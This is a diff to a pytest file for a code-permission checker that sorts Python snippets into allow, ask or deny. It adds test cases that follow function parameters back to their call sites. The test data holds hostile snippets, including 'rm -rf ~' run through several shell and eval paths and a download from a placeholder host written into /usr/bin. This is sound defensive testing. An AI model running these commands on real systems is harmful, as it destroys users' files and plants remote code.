@@ -165,8 +165,29 @@ LOOPS_AND_REACH = [
     ("import pty; pty.spawn(['bash', '-c', 'rm -rf ~'])", DENY),
     ("import asyncio\nasyncio.run(asyncio.create_subprocess_shell('rm -rf ~'))", DENY),
     ("eval(compile('__import__(\"os\").system(\"rm -rf ~\")', 'x', 'exec'))", DENY),
-    ("import subprocess\ndef go(c):\n    subprocess.run(c, shell=True)\ngo('rm -rf ~')", ASK),
+    # Parameters take what every call passes them (code/python.py _parameters): denied now, asked before.
+    ("import subprocess\ndef go(c):\n    subprocess.run(c, shell=True)\ngo('rm -rf ~')", DENY),
 ]
+
+# Function parameters followed from their call sites (written with the fix; the RedCode scripts that write into
+# /usr through a download helper were asked before issue 10's parser and allowed by it until this).
+PARAMETERS = [
+    (
+        "import requests\ndef fetch(url, dest):\n    r = requests.get(url)\n    open(dest, 'w').write(r.text)\nfetch('http://x.example/a.py', '/usr/bin/a')",
+        DENY,
+    ),
+    ("import shutil\ndef clean(d='build'):\n    shutil.rmtree(d)\nclean()", ALLOW),
+    ("import shutil\ndef clean(d='build'):\n    shutil.rmtree(d)\nclean()\nclean('/home/ana')", ASK),
+    ("import os\ndef run(c):\n    os.system(c)\nrun(c='rm -rf ~')", DENY),
+    ("import os\ndef run(c):\n    os.system(c)\ncb = run\ncb(input())", ASK),
+    ("import os\ndef rm(p):\n    os.remove(p)\nfor f in ['a.txt', 'b.txt']:\n    rm(f)", ALLOW),
+]
+
+
+@pytest.mark.parametrize(("code", "expected"), PARAMETERS)
+def test_parameters_take_what_the_calls_pass(code: str, expected: str) -> None:
+    assert decide(py(code)).decision == expected, code
+
 
 # The working directory moved by the code: os.chdir, and cwd= of a process call (written before their fix).
 WORKDIR = [
